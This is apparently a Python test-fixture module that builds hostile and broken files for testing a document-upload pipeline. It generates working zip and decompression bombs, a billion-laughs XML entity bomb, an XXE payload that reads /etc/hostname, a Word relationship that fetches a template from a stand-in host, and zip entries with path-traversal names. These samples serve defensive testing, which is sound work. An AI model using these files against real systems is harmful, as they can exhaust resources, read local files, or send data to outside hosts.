"""Makers of files nobody should trust: broken, locked, enormous, or built to do harm when opened."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

from msoffcrypto.format.ooxml import OOXMLFile
from reportlab.pdfgen.canvas import Canvas

from . import pdf
from .papers import social_work_chronology

PASSWORD = "Tuesday-10"
ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "panel panel panel panel panel panel panel panel panel panel">'
    + "".join(f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
_BODY = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
_REMOTE = (
    '<Relationship Id="rId99" TargetMode="External" Target="http://collector.example/template.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)


def empty_file() -> bytes:
    """A file of no bytes."""
    return b""


def truncated_docx() -> bytes:
    """A Word file whose second half never arrived."""
    whole = social_work_chronology()
    return whole[: len(whole) // 2]


def password_docx() -> bytes:
    """A Word file locked with a password, as Word itself locks one."""
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(social_work_chronology())).encrypt(PASSWORD, out)
    return out.getvalue()


def password_pdf() -> bytes:
    """A PDF that cannot be opened without the password."""
    return pdf.encrypted(social_work_chronology(as_pdf=True), PASSWORD)


def pdf_named_docx() -> tuple[str, bytes]:
    """A PDF somebody renamed: its name and its bytes."""
    return "Chronology.docx", social_work_chronology(as_pdf=True)


def zip_bomb(megabytes: int = 220) -> bytes:
    """A small zip that unpacks to `megabytes` of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("papers.docx", "w") as entry:
        for _ in range(megabytes):
            entry.write(bytes(1 << 20))
    return out.getvalue()


def docx_bomb(megabytes: int = 220) -> bytes:
    """A Word file whose picture unpacks to `megabytes` of zeros."""
    return with_parts(social_work_chronology(), {"word/media/image1.bmp": bytes(megabytes << 20)})


def zip_with_escaping_names() -> bytes:
    """A zip whose entries would land outside the folder they are unpacked in."""
    names = (
        "../outside.docx",
        "papers/../../outside.docx",
        "/tmp/absolute.docx",
        "..\\outside.docx",
        "C:\\outside.docx",
    )
    return zipped({name: social_work_chronology(rows=1) for name in names})


def nested_zip(depth: int = 6) -> bytes:
    """A Word file inside a zip inside a zip, `depth` deep."""
    content, name = social_work_chronology(rows=1), "Chronology.docx"
    for level in range(depth):
        content, name = zipped({name: content}), f"papers {level + 1}.zip"
    return content


def docx_with_entity_bomb() -> bytes:
    """A Word file whose XML grows a thousand million times when its entities are expanded."""
    text = f"{ENTITIES}{_BODY}<w:p><w:r><w:t>&i;</w:t></w:r></w:p></w:body></w:document>"
    return with_parts(social_work_chronology(), {"word/document.xml": text.encode()})


def docx_with_external_entity(target: str = "file:///etc/hostname") -> bytes:
    """A Word file whose XML asks the reader to fetch `target` and show it as text."""
    text = (
        f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "{target}">]>'
        f"{_BODY}<w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    )
    return with_parts(social_work_chronology(), {"word/document.xml": text.encode()})


def docx_with_external_relation() -> bytes:
    """A Word file that asks to fetch its template from elsewhere."""
    whole, name = social_work_chronology(), "word/_rels/document.xml.rels"
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        relations = archive.read(name).decode().replace("</Relationships>", _REMOTE)
    return with_parts(whole, {name: relations.encode()})


def docx_nested_deeply(depth: int = 20_000) -> bytes:
    """A Word file whose XML opens `depth` elements before it closes one."""
    inside = "<w:ins>" * depth + "</w:ins>" * depth
    text = f"{_BODY}<w:p>{inside}</w:p></w:body></w:document>"
    return with_parts(social_work_chronology(), {"word/document.xml": text.encode()})


def endless_pdf(pages: int = 10_000) -> bytes:
    """A PDF of very many pages, a line on each."""
    out = io.BytesIO()
    canvas = Canvas(out, invariant=1)
    for number in range(1, pages + 1):
        canvas.drawString(72, 770, f"Case note {number}")
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def damaged_pdf() -> bytes:
    """A PDF whose second half never arrived."""
    whole = social_work_chronology(as_pdf=True)
    return whole[: len(whole) // 2]


def crowded_zip(entries: int = 10_000) -> bytes:
    """A zip of very many small files."""
    return zipped({f"note {number}.txt": b"A case note." for number in range(entries)})


def zip_with_an_encrypted_entry() -> bytes:
    """A zip with one open entry and one that says it needs a password."""
    content = bytearray(zipped({"Open.docx": social_work_chronology(rows=1), "Locked.docx": b"unreadable" * 40}))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.rindex(signature) + offset
        (flags,) = struct.unpack_from("<H", content, at)
        struct.pack_into("<H", content, at, flags | 1)
    return bytes(content)


def zipped(files: dict[str, bytes]) -> bytes:
    """The files in a zip, under exactly the names given."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            entry = zipfile.ZipInfo("x", (2026, 3, 2, 9, 0, 0))
            entry.filename, entry.compress_type = name, zipfile.ZIP_DEFLATED
            archive.writestr(entry, content)
    return out.getvalue()


def with_parts(whole: bytes, parts: dict[str, bytes]) -> bytes:
    """The Word file with some of its parts replaced or added."""
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        kept = {name: archive.read(name) for name in archive.namelist()}
    return zipped({**kept, **parts})


HOSTILE: dict[str, Callable[[], bytes]] = {
    "empty.docx": empty_file,
    "truncated.docx": truncated_docx,
    "password.docx": password_docx,
    "password.pdf": password_pdf,
    "pdf named.docx": lambda: pdf_named_docx()[1],
    "bomb.zip": zip_bomb,
    "bomb.docx": docx_bomb,
    "escaping names.zip": zip_with_escaping_names,
    "nested.zip": nested_zip,
    "entity bomb.docx": docx_with_entity_bomb,
    "external entity.docx": docx_with_external_entity,
    "external relation.docx": docx_with_external_relation,
    "nested deeply.docx": docx_nested_deeply,
    "endless.pdf": endless_pdf,
    "damaged.pdf": damaged_pdf,
    "crowded.zip": crowded_zip,
    "encrypted entry.zip": zip_with_an_encrypted_entry,
}
